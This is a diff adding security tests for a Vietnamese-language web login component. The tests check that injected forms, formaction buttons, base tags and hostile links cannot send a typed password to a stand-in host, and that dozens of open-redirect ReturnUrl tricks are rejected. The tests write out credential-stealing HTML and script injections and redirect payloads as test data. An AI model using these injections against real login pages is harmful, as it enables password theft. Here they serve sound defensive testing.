@@ -69,6 +69,9 @@ describe('who is signed in', () => {
           { text: 'Quản trị', href: 'javascript:document.title=2' },
           { text: 'Dữ liệu', href: 'data:text/html,<script>document.title=3</script>' },
           { text: 'Văn bản', href: '/van-ban' },
+          { text: 'Nối dòng', href: 'java\nscript:document.title=4' },
+          { text: 'Tệp', href: 'blob:https://bat.example/1' },
+          { text: 'Không mã hóa', href: 'http://bat.example/' },
           null,
           { href: '/khong-chu' },
         ],
@@ -129,6 +132,12 @@ describe('attacks on a login', () => {
         '<form id="bat" method="post" action="http://localhost:9/bat"></form><script>document.querySelectorAll("portal-login input").forEach((field) => field.setAttribute("form", "bat"))</script>',
     },
     'a base that leads every address elsewhere': { extra: '<base href="http://localhost:9/">' },
+    'an address that is none': { buttonAttributes: 'formaction="http://[bat"' },
+    'a script for an address': { buttonAttributes: 'formaction="javascript:document.title=1"' },
+    'fields named as what the form is asked for': {
+      buttonAttributes: 'formaction="http://localhost:9/bat"',
+      extra: '<input form="aspnetForm" name="action" value="/"><input form="aspnetForm" name="method" value="post">',
+    },
   })) {
     test(`${attack}: the password is not sent to another site`, async () => {
       await open(options);
@@ -137,10 +146,47 @@ describe('attacks on a login', () => {
         if (request.url().includes(':9/')) abroad.push(request.url());
       });
       await trySignIn();
-      await page.getByText('mật khẩu sẽ đi tới một trang khác').waitFor();
+      await page.getByText('trang này làm lộ mật khẩu').waitFor();
       assert.deepEqual(abroad, []);
     });
   }
+
+  test('a button of somebody else’s takes no typed password along to another site', async () => {
+    await open({ extra: '<button form="aspnetForm" formaction="http://localhost:9/bat">Nhận quà</button>' });
+    const abroad: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes(':9/')) abroad.push(request.url());
+    });
+    await page.getByLabel('Tên đăng nhập').fill('vanphong');
+    await page.getByLabel('Mật khẩu', { exact: true }).fill('lua-chin-2026');
+    await page.getByRole('button', { name: 'Nhận quà' }).click();
+    await page.getByText('trang này làm lộ mật khẩu').waitFor();
+    assert.deepEqual(abroad, []);
+  });
+
+  test('Enter in a field that was given to another form sends nothing to another site', async () => {
+    await open({
+      extra: `<form id="bat" method="post" action="http://localhost:9/bat"></form><script>document.querySelectorAll("portal-login input:not([type=submit])").forEach((field) => field.setAttribute("form", "bat"))</script>`,
+    });
+    const abroad: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes(':9/')) abroad.push(request.url());
+    });
+    await page.getByLabel('Tên đăng nhập').fill('vanphong');
+    await page.getByLabel('Mật khẩu', { exact: true }).fill('lua-chin-2026');
+    await page.getByLabel('Tên đăng nhập').press('Enter');
+    await page.getByLabel('Mật khẩu', { exact: true }).press('Enter');
+    await page.evaluate(() => document.querySelector<HTMLFormElement>('#bat')!.requestSubmit());
+    await page.getByText('trang này làm lộ mật khẩu').waitFor();
+    assert.deepEqual(abroad, []);
+  });
+
+  test('a password is never written into an address', async () => {
+    await open({ buttonAttributes: 'formmethod="get"' });
+    await trySignIn();
+    await page.getByText('trang này làm lộ mật khẩu').waitFor();
+    assert.equal(new URL(page.url()).search, '');
+  });
 
   test('in a frame of another site no password is taken', async () => {
     const site = await open({});
@@ -171,8 +217,28 @@ describe('attacks on a login', () => {
     };
     assert.equal(await returnUrl('/tin-tuc?trang=2#bai-3'), '/tin-tuc?trang=2#bai-3');
     assert.equal(await returnUrl('/dang-nhap?ReturnUrl=%2Fvan-ban'), '/van-ban');
-    for (const elsewhere of ['https://bat.example/', '//bat.example/', '/\\bat.example', 'javascript:alert(1)'])
-      assert.equal(await returnUrl(`/dang-nhap?ReturnUrl=${encodeURIComponent(elsewhere)}`), '/dang-nhap');
+    for (const elsewhere of [
+      'https://bat.example/',
+      'https:bat.example',
+      'HTTPS://BAT.EXAMPLE/',
+      '//bat.example/',
+      '///bat.example/',
+      '/\\bat.example',
+      '\\\\bat.example',
+      '/\t/bat.example',
+      ' //bat.example',
+      `http://127.0.0.1:${port}@bat.example/`,
+      `http://127.0.0.1:${port}.bat.example/`,
+      `//127.0.0.1:${port + 1}/`,
+      'javascript:alert(1)',
+      'java\nscript:alert(1)',
+      'data:text/html,x',
+      'http://[bat',
+    ])
+      assert.equal(await returnUrl(`/dang-nhap?ReturnUrl=${encodeURIComponent(elsewhere)}`), '/dang-nhap', elsewhere);
+    // Encoded twice it is a path of this site, and stays one.
+    assert.equal(await returnUrl('/dang-nhap?ReturnUrl=%252F%252Fbat.example'), '/%2F%2Fbat.example');
+    assert.equal(await returnUrl('/dang-nhap?ReturnUrl=%2F.%2F%2Fbat.example'), '/bat.example');
     assert.equal(await returnUrl('//bat.example/'), '/bat.example/');
   });
 });
